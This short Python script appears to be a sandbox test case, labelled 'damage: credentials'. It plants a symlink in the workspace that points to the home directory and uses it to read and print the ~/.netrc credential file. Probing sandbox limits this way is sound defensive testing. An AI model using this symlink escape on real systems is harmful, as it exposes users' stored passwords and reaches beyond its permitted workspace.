# Read through a link in the workspace.
# damage: credentials
# needs: linux
import os

os.symlink(os.path.expanduser("~"), "notes")
with open("notes/.netrc") as file:
    print(file.read())
